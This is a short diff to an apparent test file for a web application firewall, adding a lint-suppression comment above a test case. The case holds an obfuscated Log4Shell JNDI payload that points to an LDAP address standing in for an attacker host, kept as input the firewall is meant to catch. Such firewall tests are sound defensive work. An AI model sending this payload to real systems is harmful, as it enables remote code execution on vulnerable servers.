@@ -1243,6 +1243,7 @@ describe('waf API profile: attacks held-out 10 found missed (session 7)', () => 
         ),
         'rce',
       ],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
       [upload("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.5/e}"), 'template'],
       [
         upload(
